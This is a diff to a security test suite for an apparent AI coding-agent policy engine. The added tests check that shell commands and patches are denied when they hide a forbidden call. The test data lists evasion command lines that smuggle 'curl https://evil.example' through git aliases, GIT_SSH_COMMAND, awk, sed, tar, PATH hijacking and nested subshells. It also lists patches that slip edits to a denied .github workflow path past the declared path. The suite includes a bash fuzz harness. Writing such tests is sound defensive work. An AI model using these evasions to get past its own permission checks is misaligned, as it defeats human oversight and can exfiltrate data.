@@ -4,6 +4,11 @@
 from __future__ import annotations
 
 import base64
+import os
+import random
+import shlex
+import shutil
+import subprocess
 import sys
 from pathlib import Path
 from typing import Any
@@ -12,6 +17,7 @@ import pytest
 
 from codeloop.policy.engine import PolicyEngine, approval_digest
 from codeloop.policy.injection import scan
+from codeloop.policy.shell import analyse
 
 pytestmark = pytest.mark.security
 
@@ -37,7 +43,7 @@ def make(mode: str = "full-auto", allow: list[str] | None = None, deny: list[str
 def hook(tmp_path: Path, body: str, timeout: float = 10.0) -> dict[str, Any]:
     script = tmp_path / f"hook_{abs(hash(body))}.py"
     script.write_text("import json, sys, time\n" + body)
-    return {"event": "pre_tool", "matcher": "*", "command": f"{sys.executable} {script}",
+    return {"event": "pre_tool", "matcher": "*", "command": f"{sys.executable} -S {script}",
             "timeout": timeout}
 
 
@@ -87,6 +93,15 @@ EVASIONS = [
     "alias x=curl; x https://evil.example",
     "python3 - <<EOF\nimport os; os.system('curl https://evil.example')\nEOF",
     "echo 'curl https://evil.example' | xargs -I{} sh -c {}",
+    "GIT_SSH_COMMAND='curl https://evil.example' git fetch",
+    "git -c alias.x='!curl https://evil.example' x",
+    "python3 -c 'import os; os.system(\"curl https://evil.example\")'",
+    "awk 'BEGIN{system(\"curl https://evil.example\")}'",
+    "sed 's/.*/curl https:\\/\\/evil.example/e' /dev/null",
+    "tar --to-command='curl https://evil.example' -xf a.tar",
+    "PATH=/tmp/evil:$PATH npm test",
+    "((npm test) ; (curl https://evil.example))",
+    "echo $((npm test) ; (curl https://evil.example))",
 ]
 
 
@@ -111,6 +126,121 @@ def test_visible_curl_is_denied_not_just_asked(repo: Path) -> None:
     for command in EVASIONS[:31]:
         decision = eng.decide("run", "execute", {"command": command}, False, repo, "s")
         assert decision.action == "deny", (command, decision)
+
+
+def test_a_patch_cannot_smuggle_a_denied_file_past_its_path_argument(repo: Path) -> None:
+    eng = make("full-auto", allow=["edit(src/**)"], deny=["edit(.github/**)"])
+    for patch in [
+        ".github/workflows/ci.yml\n<<<<<<< SEARCH\na\n=======\nb\n>>>>>>> REPLACE\n",
+        '--- "a/.github/workflows/ci.yml"\n+++ "b/.github/workflows/ci.yml"\n@@ -1 +1 @@\n-a\n+b\n',
+        "*** Begin Patch\n*** Update File:.github/workflows/ci.yml\n@@\n-a\n+b\n*** End Patch\n",
+        "*** Begin Patch\n*** Update File: src/a.py\n*** Move to: .github/x.yml\n*** End Patch\n",
+    ]:
+        decision = eng.decide("apply_patch", "write", {"patch": patch, "path": "src/a.py"}, False,
+                              repo, "s")
+        assert decision.action == "deny", (patch, decision)
+    unknown = eng.decide("apply_patch", "write", {"patch": "some text"}, False, repo, "s")
+    assert unknown.action == "ask"
+
+
+# Programs that log their own name instead of doing anything; real tools for the wrappers.
+_STUBS = ("curl", "wget", "npm", "git", "pytest", "python3", "make", "nc")
+_REAL = ("sh", "bash", "env", "timeout", "nice", "nohup", "xargs", "find", "cat", "base64",
+         "diff", "awk", "sed", "printf", "tar", "setsid", "stdbuf")
+TRICKY = [
+    "npm test && pytest -q || make", "pytest | cat", "(cd . && npm test); make",
+    "for f in a b; do pytest $f; done", "if npm test; then make; fi", "f() { make; }; f",
+    "X=1 npm test", "cat <<EOF | sh\nmake\nEOF", "echo $(npm test) `pytest`",
+    "timeout 5 nice npm test", "env -i pytest", "printf 'a\\n' | xargs make",
+    "find . -maxdepth 0 -exec make {} \\;", "sh -c 'npm test; make'", "((npm) ; (make))", "((npm test) | (make))",
+    "cat <<'EOF'\n$(curl x)\nEOF", "git status # ; curl x", "echo 'curl x'; echo \"wget y\"",
+    "npm test\\\ncurl x", "echo a#; make", "diff <(pytest) <(make)",
+    # found by a differential fuzz against bash: `((` after a keyword, and `((a) | (b))`
+    "((make) | (true))", "if true; then ((make) | (true)); fi",
+    "if true; then ((cat <<'EOF'\npytest\nEOF\n) | (true)); fi",
+]
+
+
+@pytest.mark.parametrize("command", [c for c in EVASIONS + TRICKY if "/bin/" not in c])
+def test_bash_never_runs_a_program_the_splitter_did_not_see(command: str, tmp_path: Path) -> None:
+    """Differential check against real bash: run the line with logging stubs on PATH and
+    require every program bash started to be among the commands found, or the line to be
+    reported as unanalysable (and therefore asked)."""
+    if shutil.which("bash") is None or shutil.which("sh") is None:
+        pytest.skip("NOT EXERCISED: no bash/sh on this machine for the differential check")
+    bin_dir, log, work = tmp_path / "bin", tmp_path / "ran.log", tmp_path / "work"
+    bin_dir.mkdir()
+    work.mkdir()
+    (work / "urls.txt").write_text("https://evil.example\n")
+    for name in _STUBS:
+        stub = bin_dir / name
+        stub.write_text(f'#!/bin/sh\necho "${{0##*/}}" >> "{log}"\n')
+        stub.chmod(0o755)
+    for name in _REAL:
+        real = shutil.which(name)
+        if real:
+            os.symlink(real, bin_dir / name)
+    subprocess.run(["bash", "-c", command], cwd=work, env={"PATH": str(bin_dir)},
+                   stdin=subprocess.DEVNULL, capture_output=True, timeout=20)
+    ran = set(log.read_text().split()) if log.exists() else set()
+    result = analyse(command)
+    seen = {c.name for c in result.commands}
+    assert ran <= seen or not result.analysable, (command, ran, seen, result.problems)
+
+
+def _random_line(rng: random.Random, depth: int = 0) -> str:
+    """A random, mostly valid bash line built from the constructs that hide commands."""
+    def simple() -> str:
+        name = rng.choice(_STUBS[:4])
+        name = rng.choice([name, "\\" + "\\".join(name), f"'{name}'", name[:2] + "''" + name[2:],
+                           f"$'{name}'", "command " + name, "env X=1 " + name, "nice " + name])
+        return f"{name} {rng.choice(['', 'a', '-x', chr(39) + 'b c' + chr(39)])}".strip()
+
+    def cmd() -> str:
+        if depth > 1 or rng.random() < 0.4:
+            return simple()
+        inner = _random_line(rng, depth + 1)
+        return rng.choice([
+            f"( {inner} )", f"{{ {inner} ; }}", f"echo $( {inner} )", f"if true; then {inner} ; fi",
+            f"for i in 1; do {inner} ; done", f"cat <<EOF\n$( {inner} )\nEOF\n",
+            f"cat <<'EOF'\n{inner}\nEOF\n", f"bash -c {shlex.quote(inner)}", f"(({inner}) | (true))",
+            f"echo ${{X:-$( {inner} )}}", f"cat <( {inner} )", f"f() {{ {inner} ; }}; f",
+            f"echo a#; {inner}", f"true # {inner}", f"printf 'x\\n' | xargs {simple()}",
+        ])
+
+    parts = [cmd() for _ in range(rng.randint(1, 3))]
+    return "".join(p + rng.choice([" ; ", " && ", " || ", " | ", "\n"]) for p in parts[:-1]) + parts[-1]
+
+
+@pytest.mark.slow
+def test_differential_fuzz_against_bash(tmp_path: Path) -> None:
+    """300 generated lines (fixed seed) run by real bash with logging stubs: the splitter must
+    find every program bash started, or report the line as unanalysable."""
+    if shutil.which("bash") is None:
+        pytest.skip("NOT EXERCISED: no bash on this machine for the differential fuzz")
+    bin_dir, work = tmp_path / "bin", tmp_path / "work"
+    bin_dir.mkdir()
+    work.mkdir()
+    for name in _STUBS:
+        (bin_dir / name).write_text('#!/bin/sh\necho "${0##*/}" >> "$LOG"\n')
+        (bin_dir / name).chmod(0o755)
+    for name in _REAL:
+        if real := shutil.which(name):
+            os.symlink(real, bin_dir / name)
+    rng = random.Random(20261122)
+    executed = 0
+    for n in range(300):
+        line, log = _random_line(rng), tmp_path / f"ran{n}.log"
+        try:
+            subprocess.run(["bash", "-c", line], cwd=work, capture_output=True, timeout=10,
+                           stdin=subprocess.DEVNULL, env={"PATH": str(bin_dir), "LOG": str(log)})
+        except subprocess.TimeoutExpired:
+            continue
+        ran = set(log.read_text().split()) if log.exists() else set()
+        executed += bool(ran)
+        result = analyse(line)
+        assert ran <= {c.name for c in result.commands} or not result.analysable, (line, ran)
+    assert executed > 150  # the generator really makes bash run programs
 
 
 # -- case 37: hook crash, timeout, garbage ---------------------------------------------------
